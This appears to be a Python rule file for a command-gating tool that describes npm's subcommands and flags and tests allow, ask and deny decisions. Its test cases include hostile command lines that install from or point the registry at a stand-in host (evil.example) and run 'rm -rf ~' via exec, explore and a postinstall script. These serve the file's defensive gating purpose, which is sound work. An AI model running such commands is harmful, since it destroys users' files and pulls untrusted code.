"""npm — installs and publishes JavaScript packages, and runs a project's scripts."""

from toolgate.knowledge.vocabulary import *

DEPENDENCIES = runs(LOCKED_PACKAGES, "workspace", (Manner.INSTALL, Manner.LOCKED))
REGISTRY = fetches(Name("registry.npmjs.org"), "registry")
RELEASE = publishes("the package", "registry")
ENTRY = publishes("a change to the package's registry entry", "registry")
ACCOUNT = publishes("a change to the registry", "registry")
LOGIN = writes("registry credentials", "secret")
USER_SETTINGS = writes("npm's settings", "home")

# What heeds `--dry-run`: the rest takes it, and acts. Packing and publishing run the package's own scripts all the same.
HEEDED = flag(
    "--dry-run",
    dry="publish, unpublish, pack, link, ln, audit, install, i, add, ci, clean-install, update, up, upgrade, dedupe, ddp, "
    "prune, uninstall, remove, rm, un",
)
RESOLVED = flag("--dry-run", dry=True, clears="registry")  # it prepares what comes from elsewhere

GENERAL = [
    "-h? -H? -?? --usage? -v? --versions?",
    """
        --access= --all -a --allow-same-version --allow-directory= --allow-file= --allow-git= --allow-remote=
        --allow-scripts= --also= --audit --no-audit --audit-level= --auth-type= --before= --enjoy-by= --bin-links
        --no-bin-links --browser= --cidr= --color= --no-color --commit-hooks --no-commit-hooks --cpu= --depth=
        --description --desc --dev -D --diff= --diff-ignore-all-space --diff-name-only --diff-no-prefix --diff-unified=
        --engine-strict --expect-result-count= --expect-results --fetch-retries= --fetch-retry-factor=
        --fetch-retry-maxtimeout= --fetch-retry-mintimeout= --fetch-timeout= -f --force --foreground-scripts
        --format-package-lock --fund --no-fund --git-tag-version --no-git-tag-version --global-style --heading=
        --if-present --ignore-scripts --no-ignore-scripts --include= --include-staged --include-workspace-root -iwr
        --no-include-workspace-root --init-author-name= --init-author-email= --init-license= --init-type=
        --init-version= --init-private --install-links --install-strategy= --json --legacy-bundling --legacy-peer-deps
        --no-legacy-peer-deps --libc= --link --local-address= --lockfile-version= --loglevel= -l --long -d -dd -ddd -q
        --quiet -s --silent --verbose --logs-max= --maxsockets= -m= --message= --min-release-age= --noproxy= --offline
        --omit= --only= --optional --no-optional -O --os= --otp= --package-lock --no-package-lock --package-lock-only
        --parseable -p --porcelain --prefer-dedupe --prefer-offline --prefer-online --preid= --production --prod
        --progress --no-progress --provenance --read-only --rebuild-bundle --save -S --no-save --save-bundle -B
        --save-dev -DE -SE -E --save-exact --save-optional --save-peer --save-prefix= --save-prod -P --sbom-format=
        --sbom-type= --scope= --searchexclude= --searchlimit= --searchopts= --shrinkwrap --no-shrinkwrap
        --sign-git-commit --sign-git-tag --no-sign-git-tag --strict-peer-deps --no-strict-peer-deps --tag=
        --tag-version-prefix= --timing --umask= --unicode --update-notifier --no-update-notifier --which -w=
        --workspace= --workspaces -ws --no-workspaces --workspaces-update --no-workspaces-update -y --yes -n --no
        --max-old-space-size= --node-version=
    """,
    flag("-g --global", manner=Manner.GLOBAL),
    flag("-gf -fg -gD", manner=Manner.GLOBAL),
    flag("--no-global --local"),
    option("--location -L", PLAIN, manner=Manner.GLOBAL),
    option("-C --prefix", CHDIR),
    option("--cache --logs-dir --pack-destination", WRITES),
    option("--registry --reg --proxy --https-proxy --replace-registry-host", FETCHES),
    option("--userconfig --globalconfig --cafile --ca --cert --key --provenance-file", READS),
    option("--script-shell --shell --git --node-gyp --editor --viewer", "READ_BY(node.npm_program)"),
    option("--init-module", RUNS),
    option("--node-options", "READ_BY(preload)"),
    flag("--no-strict-ssl", unknown("npm's certificate checks", manner=Manner.INSECURE)),
    flag("--dangerously-allow-all-scripts", unknown("npm's check of install scripts", manner=Manner.INSECURE)),
    option("--strict-ssl", PLAIN, unknown("npm's certificate checks", manner=Manner.INSECURE)),
    HEEDED,
]

SETTING = sub(
    "setting",
    style=KEYED,
    keys=(
        ("registry", FETCHES), ("proxy", FETCHES), ("https-proxy", FETCHES), ("", PLAIN), ("fund", PLAIN), ("audit", PLAIN), ("progress", PLAIN),
        ("save-exact", PLAIN), ("save-prefix", PLAIN), ("loglevel", PLAIN), ("color", PLAIN), ("engine-strict", PLAIN), ("legacy-peer-deps", PLAIN),
        ("update-notifier", PLAIN), ("init-author-name", PLAIN), ("init-license", PLAIN), ("init-version", PLAIN), ("cache", WRITES), ("fetch-timeout", PLAIN),
        ("fetch-retries", PLAIN), ("maxsockets", PLAIN), ("package-lock", PLAIN), ("ignore-scripts", PLAIN),
    ),
)  # fmt: skip
SET = sub(
    "set",
    subcommands=[
        sub("registry proxy https-proxy *:registry", "FETCHES", style=WORDS, does=USER_SETTINGS),
        sub(
            "script-shell shell git node-gyp init-module editor viewer globalconfig userconfig",
            "RUNS",
            style=WORDS,
            does=USER_SETTINGS,
        ),
        sub(
            "node-options prefix cafile ca strict-ssl //* _auth* *:_auth* dangerously-allow-all-scripts",
            "PLAIN...",
            style=WORDS,
            does=USER_SETTINGS,
        ),
    ],
    otherwise=SETTING,
)

NPM = command(
    "npm cnpm tnpm",
    options=GENERAL,
    style=WORDS,
    subcommands=[
        sub("install i in ins inst insta instal isnt isnta isntal isntall add install-test it", "PACKAGES(npm)...", [RESOLVED], style=WORDS, bare=DEPENDENCIES),
        sub("ci clean-install ic install-clean isntall-clean cit install-ci-test clean-install-test", style=WORDS, does=DEPENDENCIES),
        sub("update up upgrade udpate dedupe ddp rebuild rb prune shrinkwrap approve-scripts deny-scripts install-scripts", "PLAIN...", style=WORDS, does=DEPENDENCIES),
        sub("uninstall unlink remove rm r un", "PLAIN...", style=WORDS, does=deletes("packages of the project", "output")),
        sub("link ln", "PACKAGES(npm)...", style=WORDS, does=writes("links between packages", "output")),
        lax("run run-script rum urn", "READ_BY(task)? PLAIN...", style=WORDS, given=runs(PACKAGE_SCRIPT)),
        loose("test t tst start restart stop", style=WORDS, does=runs(PACKAGE_SCRIPT)),
        sub("exec x", "TOOL?", [option("--package", PACKAGES), option("-c --call", SCRIPT)], style=WORDS),
        lax("init create innit", "PACKAGES(create)? MAKES? PLAIN...", style=WORDS, bare=writes(Name("package.json"), "workspace")),
        sub("publish", "READ_BY(node.packed)?", style=WORDS, unlisted="READ_BY(node.npm_setting)", does=RELEASE, bare=runs(PACKAGE_SCRIPT)),
        sub("unpublish", "PLAIN...", style=WORDS, does=publishes("a package", "registry", Manner.DELETE)),
        sub("deprecate undeprecate", "PLAIN...", style=WORDS, does=publishes("a deprecation notice", "registry")),
        sub("owner author team org access dist-tag dist-tags trust stage star unstar hook", subcommands=[
            sub("ls list list-packages list-collaborators get public-list", "PLAIN...", style=WORDS, does=REGISTRY),
        ], otherwise=sub("owner", "PLAIN...", style=WORDS, does=ENTRY)),
        sub("token profile", subcommands=[sub("list ls get", "PLAIN...", style=WORDS, does=REGISTRY)], otherwise=sub("token", "PLAIN...", style=WORDS, does=ACCOUNT)),
        sub("login adduser add-user logout", "PLAIN...", style=WORDS, does=LOGIN),
        sub("config c", style=WORDS, subcommands=[
            SET,
            sub("get", "READ_BY(variables)...", style=WORDS),
            sub("list ls", "PLAIN...", style=WORDS),
            sub("delete del rm edit fix", "PLAIN...", style=WORDS, does=USER_SETTINGS),
        ]),
        sub("get", "READ_BY(variables)...", style=WORDS),
        SET,
        sub("audit", "PLAIN...", style=WORDS, does=REGISTRY, subcommands=[sub("fix", "PLAIN...", style=WORDS, does=DEPENDENCIES), sub("signatures", style=WORDS)]),
        sub("view info show v search s se find outdated ping stars repo docs home bugs issues diff fund whoami sbom", "PLAIN...", style=WORDS, does=REGISTRY),
        sub("root prefix bin", "PLAIN...", style=WORDS, prints="tools"),
        sub("ls list ll la explain why find-dupes help help-search doctor query completion", "PLAIN...", style=WORDS),
        sub("explore", "PLAIN ARGV?", style=WORDS),
        sub("pack", "READ_BY(node.packed)...", style=WORDS, does=writes("the package's archive", "output"), given=fetches("the npm registry", "registry"), bare=runs(PACKAGE_SCRIPT), traits="lands packs-project"),
        sub("version verison", "PLAIN?", style=WORDS, given=(writes(Name("package.json"), "workspace"), runs(PACKAGE_SCRIPT))),
        sub("pkg", subcommands=[sub("get", "PLAIN...", style=WORDS), sub("set", "FIELD...", style=WORDS, does=writes(Name("package.json"), "workspace")), sub("delete fix", "PLAIN...", style=WORDS, does=writes(Name("package.json"), "workspace"))]),
        sub("cache", subcommands=[sub("ls verify add npx", "PLAIN...", style=WORDS), sub("clean clear rm", "PLAIN...", style=WORDS, does=deletes("npm's cache", "cache"))]),
        sub("edit", "PLAIN...", style=WORDS, does=writes("a package's files", "output")),
        sub("set-script", "PLAIN SCRIPT", style=WORDS, does=writes(Name("package.json"), "workspace")),
    ],
    traits="life-cycle npm-variables",
)  # fmt: skip
TOOLS = loose(
    "npm-check npm-check-updates depcheck syncpack sort-package-json license-checker publint attw @arethetypeswrong/cli size-limit bundlesize knip madge unimported ts-prune jscpd",
    [
        "-h? -V?",
        flag("-g --global", manner=Manner.GLOBAL),
        option("--registry", FETCHES),
        option("--out --output -o --image", WRITES),
        option("--config -c --packageFile", READS),
    ],
    does=runs("a tool of the project"),
)
RUSHX = lax("rushx", "READ_BY(task)? PLAIN...", given=runs(PACKAGE_SCRIPT), style=EARLY)
SEVERAL = lax(
    "npm-run-all npm-run-all2 run-s run-p",
    "READ_BY(task)...",
    [flag("-h -V", informs=True)],
    does=runs(PACKAGE_SCRIPTS),
)

CASES = """
allow  npm ci
       run the project's dependencies
allow  npm install
allow  npm i --no-audit --no-fund --legacy-peer-deps
allow  npm test -- -t "rm -rf /"
allow  npm run build --workspace=packages/a
allow  npm run test:e2e --reporter=line
allow  npm --prefix web run lint -- --fix
allow  npm run
allow  npm ls --depth=0
allow  npm view react versions --json
allow  npm outdated
allow  npm audit --audit-level=high
allow  npm config list
allow  npm config get registry
allow  npm pack --dry-run
allow  npm publish --dry-run
allow  npm version patch --no-git-tag-version
allow  npm install ./packages/local
allow  npm exec -- eslint .
allow  npm uninstall left-pad
allow  npm cache clean --force
allow  npm install left-pad
       run left-pad
allow  npm i -D -E left-pad
allow  npm install -g=false left-pad
ask    npm install -g left-pad
ask    npm -g install left-pad
ask    npm i --location=global left-pad
ask    npm install --global=true left-pad
ask    npm install https://evil.example/x.tgz
ask    npm install github:somebody/thing
ask    npm install --registry=https://evil.example
ask    npm ci --script-shell=/home/user/Downloads/sh
ask    npm config set registry https://evil.example
ask    npm config set registry=https://evil.example
ask    npm set registry https://evil.example
ask    npm config set script-shell /tmp/x
ask    npm publish --access public
ask    npm publish --registry https://npm.acme.example
ask    npm publish --frobnicate
ask    npm unpublish left-pad --force
ask    npm deprecate left-pad 'no'
ask    npm owner add somebody left-pad
allow  npm owner ls left-pad
ask    npm token create
ask    npm login
ask    npm run deploy
ask    npm exec somebodys-tool
allow  npm create vite@latest app
allow  npm init -y
deny   npm exec -c 'rm -rf ~'
ask    npm install --surprise
ask    npm surprise
deny   npm explore lodash -- rm -rf ~
deny   npm pkg set scripts.postinstall='rm -rf ~'
allow  npm pkg set scripts.test=vitest
deny   npm pkg set scripts.x='rm -rf ~' && npm run x

# a registry on this machine
@ absent .npmrc
@ absent ~/.npmrc
@ absent ~/package.json
@ file package.json {"name": "x"}
allow  npm publish --registry http://localhost:4873 --//localhost:4873/:_authToken=local
ask    npm publish --registry http://localhost:4873 --@acme:registry=https://npm.acme.example

@ absent ~/.npmrc
@ absent ~/package.json
@ file package.json {"name": "@acme/x"}
@ file .npmrc @acme:registry=https://npm.acme.example
ask    npm publish --registry http://localhost:4873
allow  npm run release -- --dry-run
ask    npm run release -- --dry-run=false
ask    npm run release -- --no-dry-run
@ file package.json {"scripts": {"release": "npm publish && echo done"}}
ask    npm run release -- --dry-run
allow  "$(npm bin)/eslint" . && $(npm root)/.bin/tsc --noEmit
"""
